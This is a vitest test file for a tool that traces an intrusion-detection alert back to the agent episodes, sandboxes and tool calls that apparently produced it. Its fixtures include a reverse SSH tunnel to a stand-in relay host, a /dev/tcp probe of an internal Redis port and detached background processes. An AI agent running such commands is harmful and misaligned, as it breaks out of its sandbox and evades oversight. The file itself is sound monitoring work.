import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, expect, it } from 'vitest';
import type { Report } from '../../../src/model/report.ts';
import { investigate } from '../../../src/pipeline.ts';
import { audit, LEASE } from '../one-sandbox.ts';

const folder = mkdtempSync(join(tmpdir(), 'trace-missing-'));
afterAll(() => rmSync(folder, { recursive: true }));

interface Left {
  readonly leases?: readonly object[];
  readonly calls?: readonly object[];
  readonly audit?: readonly string[];
}

const tracesOf = ({ attributions }: Report): readonly string[] =>
  attributions.flatMap(({ missing }) => missing.filter((text) => text.includes('trace')));

/** What a folder answers of a probe at 17:01:04 from the host of these leases. */
async function reportOf(name: string, left: Left): Promise<Report> {
  mkdirSync(join(folder, name));
  const lines = (rows: readonly object[]): string => rows.map((row) => `${JSON.stringify(row)}\n`).join('');
  const inventory = { servers: [{ host: 'train-01', lan_ip: '10.70.0.11', sandbox_net: '10.66.1.0/24' }] };
  writeFileSync(join(folder, name, 'inventory.json'), lines([inventory]));
  if (left.leases !== undefined) writeFileSync(join(folder, name, 'leases.jsonl'), lines(left.leases));
  if (left.calls !== undefined) writeFileSync(join(folder, name, 'tool_calls.jsonl'), lines(left.calls));
  if (left.audit !== undefined) writeFileSync(join(folder, name, 'train-01-audit.log'), `${left.audit.join('\n')}\n`);
  writeFileSync(
    join(folder, name, 'fast.log'),
    '11/23/2026-17:01:04.002000  [**] [1:9000009:1] SCAN connection attempts to internal services [**] [Classification: Leak] [Priority: 2] {TCP} 10.70.0.11:59006 -> 10.77.0.6:6379\n',
  );
  return investigate({ paths: [join(folder, name)], cwd: folder });
}

const leaseOf = (n: number, times: object = {}): object => ({
  ...LEASE,
  sandbox_id: `sb-${n}`,
  ip: `10.66.1.${n + 1}`,
  uid: 20_000 + n,
  envd_pid: 100 + n,
  episode_id: `ep-${n}`,
  ...times,
});
const EARLIER = { start: '2026-11-23T16:40:00.000Z', end: '2026-11-23T16:50:00.000Z' };
const LATER = { start: '2026-11-23T17:05:00.000Z', end: '2026-11-23T17:09:00.000Z' };
const CALL = {
  episode_id: 'ep-1',
  sandbox_id: 'sb-1',
  tool: 'bash',
  tool_call_id: 'call-1',
  command: 'make test',
  start: '2026-11-23T17:01:00.000Z',
  end: '2026-11-23T17:01:05.000Z',
};

it('names the traces that are missing of episodes that held a sandbox then, and of those that had left it', async () => {
  const leases = [leaseOf(1), leaseOf(2), leaseOf(3, EARLIER), leaseOf(4, LATER)];
  const report = await reportOf('host', { leases, calls: [CALL] });
  expect(tracesOf(report)).toEqual([
    'traces of episodes that held a sandbox then: ep-2 (sb-2)',
    'traces of earlier episodes that may have left something running: ep-3 (sb-3)',
  ]);
  const { problems } = report;
  expect(problems).toMatchObject([{ severity: 'warning', code: 'episodes-untraced' }]);
  expect(problems[0]?.message).toContain('3 of 4 episodes');
  expect(problems[0]?.message).toContain('ep-2 (sb-2), ep-3 (sb-3), ep-4 (sb-4)');
});

it('says nothing of traces where every episode left one', async () => {
  const report = await reportOf('whole', { leases: [leaseOf(1)], calls: [CALL] });
  expect(report.attributions).toHaveLength(1);
  expect(tracesOf(report)).toEqual([]);
  expect(report.problems).toEqual([]);
});

it('counts those that are too many to be named', async () => {
  const leases = Array.from({ length: 12 }, (_, i) => leaseOf(i + 1));
  const report = await reportOf('many', { leases, calls: [CALL] });
  expect(tracesOf(report)[0]).toMatch(
    /^traces of episodes that held a sandbox then: (ep-\d+ \(sb-\d+\), ){7}ep-\d+ \(sb-\d+\) and 3 more$/,
  );
});

it('names the one episode that began the process of the flow', async () => {
  const at = 1795453264;
  const root = audit({ at: at - 1, pid: 900, ppid: 102, uid: 20_002, args: ['python3', 'probe.py'] });
  const connect = audit({ at, pid: 900, ppid: 102, uid: 20_002 });
  const report = await reportOf('process', {
    leases: [leaseOf(1), leaseOf(2), leaseOf(3)],
    calls: [CALL],
    audit: [...root, ...connect],
  });
  expect(tracesOf(report)).toEqual(['the trace of ep-2, which began the process in sb-2']);
});

it('says that no record names the episode of a sandbox of which only the lease is there', async () => {
  const leases = [{ ...leaseOf(1), episode_id: undefined }];
  const report = await reportOf('unnamed', { leases });
  expect(tracesOf(report)[0]).toBe('the trace of what ran in sb-1 then: no record names its episode');
});

it('doubts a call that names the destination where the process of the flow runs what the call does not name', async () => {
  const tunnel = { ...CALL, command: 'nohup ssh -N -R 9000:10.77.0.6:6379 relay.example &' };
  const connect = audit({ at: 1795453264, pid: 900, ppid: 800, uid: 20_001 });
  const named = { ...tunnel, command: tunnel.command.replace('ssh', 'x') };
  const other = await reportOf('other-program', { leases: [leaseOf(1)], calls: [tunnel], audit: connect });
  const same = await reportOf('same-program', { leases: [leaseOf(1)], calls: [named], audit: connect });
  expect([other, same].map(({ attributions: [one] }) => one?.verdict)).toEqual(['ambiguous', 'likely']);
  expect(other.attributions[0]?.evidence.map(({ code }) => code)).toContain('process-excludes');
});

it.each([
  ['before it', 1795453255, undefined, 'ambiguous'],
  ['with it', 1795453261, undefined, 'likely'],
  ['before it and ran something new in it', 1795453255, 1795453261, 'likely'],
])(
  'holds the call that names the destination against a process of the flow that began %s',
  async (name, began, again, verdict) => {
    const late = {
      ...CALL,
      command: 'nohup ./x 10.77.0.6:6379 >/dev/null 2>&1 &',
      start: '2026-11-23T17:01:01.000Z',
      end: '2026-11-23T17:01:01.500Z',
    };
    const begin = audit({ at: began, pid: 900, ppid: 800, uid: 20_001, args: ['x', 'serve'] });
    const rerun =
      again === undefined ? [] : audit({ at: again, pid: 900, ppid: 800, uid: 20_001, args: ['x', '10.77.0.6:6379'] });
    const connect = audit({ at: 1795453264, pid: 900, ppid: 800, uid: 20_001 });
    const records = [...begin, ...rerun, ...connect];
    const report = await reportOf(name, { leases: [leaseOf(1)], calls: [late], audit: records });
    const [one] = report.attributions;
    expect(one?.verdict).toBe(verdict);
    const says = one?.candidates.flatMap(({ evidence }) => evidence.map((claim) => claim.says));
    expect(says?.includes('the process that opened the flow began before the call')).toBe(verdict === 'ambiguous');
  },
);

it.each([
  ['its own program', ['x', 'serve'], true],
  ['the shell of the session', ['bash', '-l'], false],
  ['the kernel of a notebook', ['python3', '-m', 'ipykernel_launcher'], false],
])('holds it against a call that the flow is of an earlier process, which is %s: %s', async (name, args, isHeld) => {
  const told = { ...CALL, command: 'echo PING > /dev/tcp/10.77.0.6/6379', start: '2026-11-23T17:01:03.500Z' };
  const begin = audit({ at: 1795453255, pid: 900, ppid: 800, uid: 20_001, args });
  const connect = audit({ at: 1795453264, pid: 900, ppid: 800, uid: 20_001 });
  const report = await reportOf(name, { leases: [leaseOf(1)], calls: [told], audit: [...begin, ...connect] });
  const says = report.attributions[0]?.candidates.flatMap(({ evidence }) => evidence.map((claim) => claim.says));
  expect(says?.includes('the process that opened the flow began before the call')).toBe(isHeld);
});
